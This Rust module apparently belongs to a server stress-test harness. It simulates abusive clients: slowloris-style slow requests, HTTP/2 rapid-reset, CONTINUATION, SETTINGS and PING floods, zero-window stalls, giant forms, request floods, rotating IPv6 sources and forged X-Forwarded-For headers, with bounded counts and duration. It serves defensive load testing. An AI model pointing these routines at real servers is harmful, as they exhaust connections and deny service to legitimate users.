//! Clients that misuse the protocol rather than the form: slow ones, HTTP/2 with floods and closed windows, giant forms,
//! connections that fill the house, floods of requests that complete nothing, sources that change each time, and sources that
//! are claimed.
//!
//! Bounded like everything here: so many connections at once, so many bytes on each, a pause between two, until the
//! attack is over.

use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::atomic::Ordering;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::{Duration, Instant};

use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use serde::Serialize;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::task::JoinSet;
use tokio::time::{sleep, sleep_until, timeout_at};

use crate::client;
use crate::networks;
use crate::probe::ServerProbe;
use crate::scenario::{Options, Scenario};
use crate::world::World;

/// Connections at once: with both ends in one process, 600 descriptors.
const ABUSERS: usize = 300;
/// Connections that each rented server keeps in `full-house`: all together more than the 4,096 places of a server as shipped.
const KEPT_BY_EACH: usize = 20;
/// Descriptors besides those of abusers and people: count, page, mail, terminal; a server of this process.
const OTHERS: u64 = 128;
/// Between two connections of one abuser.
const PAUSE: Duration = Duration::from_secs(2);
/// The same in a flood.
const FLOOD_PAUSE: Duration = Duration::from_millis(50);
/// Most bytes that a flood sends on one connection.
const FLOOD_BYTES: usize = 4 << 20;
/// Between two drips of a slow client.
const DRIP_EVERY: Duration = Duration::from_secs(1);

/// One way to misuse the protocol.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Abuse {
    NoBytes,
    SlowHead,
    SlowBody,
    SlowRead,
    HalfHead,
    HalfBody,
    WatchCount,
    RapidReset,
    Continuation,
    SettingsFlood,
    PingFlood,
    ZeroWindow,
    GiantBody,
    ManyFields,
    LongField,
    AskPages,
    AskPuzzles,
    AskForms,
    EmptyForms,
    NewNetwork,
    ClaimedSource,
}

/// What became of one kind of abuse.
#[derive(Clone, Copy, Debug, Default, PartialEq, Serialize)]
pub struct Tale {
    /// Connections that were tried.
    pub tried: u64,
    /// Of these, not accepted.
    pub not_connected: u64,
    /// Of these, ended by the server.
    pub ended: u64,
    /// Of these, open when the attack ended.
    pub open: u64,
    /// Longest time that one held a connection, seconds.
    pub longest_seconds: f64,
}

/// All tales, by kind.
#[derive(Debug, Default)]
pub(crate) struct Tales(Mutex<BTreeMap<&'static str, Tale>>);

impl Tales {
    fn tell(&self, abuse: Abuse, note: impl FnOnce(&mut Tale)) {
        note(
            self.0
                .lock()
                .unwrap_or_else(PoisonError::into_inner)
                .entry(abuse.name())
                .or_default(),
        );
    }

    pub(crate) fn snapshot(&self) -> BTreeMap<&'static str, Tale> {
        self.0.lock().unwrap_or_else(PoisonError::into_inner).clone()
    }
}

impl Abuse {
    fn of(scenario: Scenario) -> &'static [Self] {
        match scenario {
            Scenario::SlowClients => &[Self::NoBytes, Self::SlowHead, Self::SlowBody, Self::SlowRead],
            Scenario::FullHouse => &[Self::NoBytes, Self::HalfHead, Self::HalfBody, Self::WatchCount],
            Scenario::H2Abuse => &[
                Self::RapidReset,
                Self::Continuation,
                Self::SettingsFlood,
                Self::PingFlood,
                Self::ZeroWindow,
            ],
            Scenario::GiantForms => &[Self::GiantBody, Self::ManyFields, Self::LongField],
            Scenario::Flood4000 | Scenario::Noel2020 => {
                &[Self::AskPages, Self::AskPuzzles, Self::AskForms, Self::EmptyForms]
            }
            Scenario::Ipv6Rotation => &[Self::NewNetwork],
            Scenario::ForgedForwarding => &[Self::ClaimedSource],
            _ => &[],
        }
    }

    fn name(self) -> &'static str {
        match self {
            Self::NoBytes => "no bytes",
            Self::SlowHead => "slow head",
            Self::SlowBody => "slow body",
            Self::SlowRead => "slow read",
            Self::HalfHead => "half a head",
            Self::HalfBody => "half a body",
            Self::WatchCount => "watching the count",
            Self::RapidReset => "rapid reset",
            Self::Continuation => "continuation",
            Self::SettingsFlood => "settings flood",
            Self::PingFlood => "ping flood",
            Self::ZeroWindow => "zero window",
            Self::GiantBody => "giant body",
            Self::ManyFields => "many fields",
            Self::LongField => "long field",
            Self::AskPages => "pages",
            Self::AskPuzzles => "puzzles",
            Self::AskForms => "forms",
            Self::EmptyForms => "empty forms",
            Self::NewNetwork => "new network each time",
            Self::ClaimedSource => "claimed source",
        }
    }

    /// Where the next connection comes from; nothing once there are as many sources as the drill may have.
    fn source(self, world: &World, index: usize, turn: u32) -> Option<IpAddr> {
        Some(match self {
            Self::AskPages | Self::AskPuzzles | Self::AskForms | Self::EmptyForms => {
                networks::flood_address(world.sources.fetch_add(1, Ordering::Relaxed)).into()
            }
            Self::NewNetwork => {
                let number = world.sources.fetch_add(1, Ordering::Relaxed);
                networks::rotating_address((number < world.options.max_sources).then_some(number)?).into()
            }
            Self::ClaimedSource => networks::hosting_address(index + turn as usize * world.abusers.at_once).into(),
            _ => networks::hosting_address(index).into(),
        })
    }

    /// How long an abuser waits between two connections: a flood does not.
    fn pause(self) -> Duration {
        match self {
            Self::AskPages | Self::AskPuzzles | Self::AskForms | Self::EmptyForms | Self::NewNetwork => FLOOD_PAUSE,
            _ => PAUSE,
        }
    }

    /// Says what this abuse says, and then nothing; ends early when the other end takes no more.
    async fn speak(self, out: &mut (impl AsyncWrite + Unpin), page: &str, host: &str) -> std::io::Result<()> {
        let post = |length: usize| {
            format!(
                "POST {page}/sign HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
                 Content-Length: {length}\r\n\r\n"
            )
            .into_bytes()
        };
        match self {
            Self::NoBytes => Ok(()),
            Self::AskPages => out.write_all(&asks(page, host)).await,
            Self::AskPuzzles => out.write_all(&asks(&format!("{page}/challenge"), host)).await,
            Self::AskForms => out.write_all(&asks(&format!("{page}/sign"), host)).await,
            Self::EmptyForms => out.write_all(&forms(page, host, "", |_| String::new())).await,
            Self::NewNetwork => {
                let ask = format!("GET {page}/challenge HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
                out.write_all(ask.as_bytes()).await
            }
            Self::ClaimedSource => {
                let claim = |turn: u32| {
                    let honest = networks::SHARED.to_bits() - turn % 16;
                    let honest = std::net::Ipv4Addr::from_bits(honest);
                    format!("X-Forwarded-For: {honest}\r\nForwarded: for={honest}\r\n")
                };
                out.write_all(&forms(page, host, "altcha=forged", claim)).await
            }
            Self::HalfHead => {
                let half = format!("GET {page} HTTP/1.1\r\nHost: {host}\r\n");
                out.write_all(half.as_bytes()).await
            }
            Self::HalfBody => out.write_all(&[post(200), b"name=".to_vec()].concat()).await,
            Self::WatchCount => {
                let ask = format!("GET {page}/events HTTP/1.1\r\nHost: {host}\r\n\r\n");
                out.write_all(ask.as_bytes()).await
            }
            Self::SlowHead => {
                out.write_all(format!("GET {page} HTTP/1.1\r\nHost: {host}\r\n").as_bytes())
                    .await?;
                drip(out, b"X-More: 1\r\n").await
            }
            Self::SlowBody => {
                out.write_all(&post(12_000)).await?;
                drip(out, b"a").await
            }
            Self::SlowRead => {
                let ask = format!("GET {page} HTTP/1.1\r\nHost: {host}\r\n\r\n");
                out.write_all(ask.repeat(500).as_bytes()).await?;
                // An empty line between requests says nothing, and finds out whether anybody is there.
                drip(out, b"\r\n").await
            }
            Self::RapidReset => {
                out.write_all(&preface(&[])).await?;
                for batch in 0..1000u32 {
                    let streams = (0..100).map(|stream| (batch * 100 + stream) * 2 + 1);
                    let bytes: Vec<u8> = streams
                        .flat_map(|stream| [get(stream, page), reset(stream)].concat())
                        .collect();
                    out.write_all(&bytes).await?;
                }
                Ok(())
            }
            Self::Continuation => {
                let start = frame(HEADERS, 0b1, 1, &[0x82, 0x87]);
                out.write_all(&[preface(&[]), start].concat()).await?;
                flood(out, &frame(CONTINUATION, 0, 1, &[0x00, 1, b'x', 1, b'y'])).await
            }
            Self::SettingsFlood => {
                out.write_all(&preface(&[])).await?;
                flood(out, &frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 10])).await
            }
            Self::PingFlood => {
                out.write_all(&preface(&[])).await?;
                flood(out, &frame(PING, 0, 0, &[0; 8])).await
            }
            Self::ZeroWindow => {
                let asks: Vec<u8> = (0..10).flat_map(|stream| get(2 * stream + 1, page)).collect();
                // SETTINGS_INITIAL_WINDOW_SIZE 0
                out.write_all(&[preface(&[0, 4, 0, 0, 0, 0]), asks].concat()).await
            }
            Self::GiantBody => {
                out.write_all(&post(1 << 30)).await?;
                flood(out, b"name=aaaaaaaaaaaaaaaaaaaaaaaaaaaa&comment=bbbbbbbbbbbbbbbbbbbbb&").await
            }
            Self::ManyFields => {
                let body = "a=&".repeat(5000);
                out.write_all(&[post(body.len()), body.into_bytes()].concat()).await
            }
            Self::LongField => {
                let body = format!("name={}", "%F0%9F%98%80".repeat(1300));
                out.write_all(&[post(body.len()), body.into_bytes()].concat()).await
            }
        }
    }

    /// Hears what the other end says until it says no more.
    async fn listen(self, from: &mut (impl AsyncRead + Unpin)) {
        let mut chunk = [0; 4096];
        let room = if self == Self::SlowRead { 1 } else { chunk.len() };
        while let Ok(1..) = from.read(&mut chunk[..room]).await {
            match self {
                Self::SlowRead => sleep(DRIP_EVERY).await,
                // An answer is all there is: the form was refused, and the connection is kept for another.
                Self::ManyFields | Self::LongField => return,
                _ => {}
            }
        }
    }
}

/// Requests of one connection of a flood.
const FLOOD_REQUESTS: u32 = 20;

/// The same question again and again, in one breath; the last one closes.
fn asks(path: &str, host: &str) -> Vec<u8> {
    let ask = |end: &str| format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n{end}\r\n");
    (ask("").repeat(FLOOD_REQUESTS as usize - 1) + &ask("Connection: close\r\n")).into_bytes()
}

/// Forms in one breath, each with headers of its own; the last one closes.
fn forms(page: &str, host: &str, body: &str, headers: impl Fn(u32) -> String) -> Vec<u8> {
    let form = |turn: u32| {
        let end = if turn + 1 == FLOOD_REQUESTS {
            "Connection: close\r\n"
        } else {
            ""
        };
        let length = body.len();
        format!(
            "POST {page}/sign HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: {length}\r\n{}{end}\r\n{body}",
            headers(turn)
        )
    };
    (0..FLOOD_REQUESTS).map(form).collect::<String>().into_bytes()
}

async fn drip(out: &mut (impl AsyncWrite + Unpin), drop: &[u8]) -> std::io::Result<()> {
    loop {
        sleep(DRIP_EVERY).await;
        out.write_all(drop).await?;
    }
}

async fn flood(out: &mut (impl AsyncWrite + Unpin), piece: &[u8]) -> std::io::Result<()> {
    let batch = piece.repeat((64 << 10) / piece.len());
    for _ in 0..FLOOD_BYTES / batch.len() {
        out.write_all(&batch).await?;
    }
    Ok(())
}

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

/// An HTTP/2 frame (RFC 9113 section 4.1). Payloads here are far below the 16 KiB of one frame.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The preface (RFC 9113 section 3.4) with its SETTINGS.
fn preface(settings: &[u8]) -> Vec<u8> {
    [
        &b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..],
        &frame(SETTINGS, 0, 0, settings),
    ]
    .concat()
}

/// `GET path` in HPACK's static table and literals (RFC 7541). A path of ours is shorter than 127 bytes.
fn get(stream: u32, path: &str) -> Vec<u8> {
    let path = [&[0x04, path.len().min(126) as u8], path.as_bytes()].concat();
    frame(
        HEADERS,
        0b101,
        stream,
        &[&[0x82, 0x86][..], &path, &[0x01, 1, b'a']].concat(),
    )
}

fn reset(stream: u32) -> Vec<u8> {
    // CANCEL
    frame(RESET, 0, stream, &[0, 0, 0, 8])
}

/// How many connections are misused at once.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
pub struct Abusers {
    /// As the scenario has it.
    pub wanted: usize,
    /// As many descriptors as this process may have let it.
    pub at_once: usize,
}

impl Abusers {
    /// Those of a scenario, within what the system allows this process, which takes as much of it as it needs.
    pub(crate) fn of(options: &Options) -> Self {
        let wanted = match options.scenario {
            Scenario::FullHouse => networks::HOSTING_ADDRESSES * KEPT_BY_EACH,
            scenario if Abuse::of(scenario).is_empty() => 0,
            _ => ABUSERS,
        };
        // A server in this process has the other end of each.
        let ends = if matches!(options.probe, ServerProbe::Threads(_)) {
            2
        } else {
            1
        };
        let people = 2 * options.connections as u64;
        let descriptors = raise((wanted as u64 + people) * ends + OTHERS);
        Self {
            wanted,
            at_once: wanted.min(among(descriptors, people, ends)),
        }
    }
}

/// How many connections there can be beside those of people.
fn among(descriptors: u64, people: u64, ends: u64) -> usize {
    let room = (descriptors.saturating_sub(OTHERS) / ends).saturating_sub(people);
    usize::try_from(room).unwrap_or(usize::MAX)
}

/// Takes the most descriptors that the system lets this process have, if it has fewer than it needs. How many it may have then.
fn raise(wanted: u64) -> u64 {
    let Rlimit { current, maximum } = getrlimit(Resource::Nofile);
    let now = current.unwrap_or(u64::MAX);
    let raised = Rlimit {
        current: maximum,
        maximum,
    };
    if now < wanted && setrlimit(Resource::Nofile, raised).is_ok() {
        return maximum.unwrap_or(u64::MAX);
    }
    now
}

/// Misuses the protocol for as long as the attack lasts. Nothing for scenarios without such clients.
pub(crate) async fn run(world: Arc<World>) {
    let kinds = Abuse::of(world.options.scenario);
    let wave = world.plan.abuse.and_then(|wave| world.plan.waves.get(wave));
    let Some(wave) = wave.filter(|_| !kinds.is_empty()) else {
        return;
    };
    sleep_until((world.started + wave.from).into()).await;
    let end = world.started + wave.to;
    let mut abusers = JoinSet::new();
    for index in 0..world.abusers.at_once {
        // Every server does a little of everything.
        let kind = kinds[(index + index / networks::HOSTING_ADDRESSES) % kinds.len()];
        abusers.spawn(abuser(Arc::clone(&world), kind, index, end));
    }
    while abusers.join_next().await.is_some() {}
}

/// One abuser: connects, misuses, is thrown out, comes again.
async fn abuser(world: Arc<World>, abuse: Abuse, index: usize, end: Instant) {
    // Not all in one instant: what is measured is the abuse, not a burst of connections.
    sleep(PAUSE.mul_f64(index as f64 / world.abusers.at_once as f64)).await;
    let mut port = 1024 + index as u16;
    for turn in 0.. {
        if Instant::now() >= end {
            break;
        }
        port = port.checked_add(307).unwrap_or(1024);
        let Some(source) = abuse.source(&world, index, turn) else {
            break;
        };
        once(&world, abuse, SocketAddr::new(source, port), end).await;
        sleep(abuse.pause()).await;
    }
}

async fn once(world: &World, abuse: Abuse, source: SocketAddr, end: Instant) {
    world.abuse.tell(abuse, |tale| tale.tried += 1);
    let Ok(mut stream) = client::open(&world.forged_road, source).await else {
        return world.abuse.tell(abuse, |tale| tale.not_connected += 1);
    };
    let began = Instant::now();
    let (mut reader, mut writer) = stream.split();
    let (page, host) = (world.path(""), world.forged_road.target.authority());
    let speaking = async {
        // Everything said: the rest is for the other end to do. Not taken: it has done it.
        if abuse.speak(&mut writer, &page, host).await.is_ok() {
            std::future::pending::<()>().await;
        }
    };
    let both = async {
        tokio::select! {
            () = speaking => {}
            () = abuse.listen(&mut reader) => {}
        }
    };
    let ended = timeout_at(end.into(), both).await.is_ok();
    let seconds = (began.elapsed().as_secs_f64() * 10.0).round() / 10.0;
    world.abuse.tell(abuse, |tale| {
        if ended {
            tale.ended += 1;
        } else {
            tale.open += 1;
        }
        tale.longest_seconds = tale.longest_seconds.max(seconds);
    });
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_full_house_takes_every_descriptor_that_it_may_have_and_no_more() {
        let plan = Options::new(Scenario::FullHouse, 1);
        let Abusers { wanted, at_once } = Abusers::of(&plan);
        assert_eq!(wanted, 4360);
        assert!(at_once <= wanted && at_once > 0, "{at_once}");
        assert_eq!((among(1024, 512, 1), among(10_000, 512, 2)), (384, 4424));
        assert_eq!(among(512, 512, 2), 0, "people come first");
        assert_eq!(Abusers::of(&Options::new(Scenario::HonestSurge, 1)).at_once, 0);
    }

    #[test]
    fn frames_are_those_of_the_protocol() {
        assert_eq!(
            frame(PING, 0, 0, &[0; 8]),
            [0, 0, 8, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]
        );
        assert!(preface(&[]).ends_with(&[0, 0, 0, 4, 0, 0, 0, 0, 0]));
        assert_eq!(get(3, "/p")[..9], [0, 0, 9, 1, 5, 0, 0, 0, 3]);
    }
}
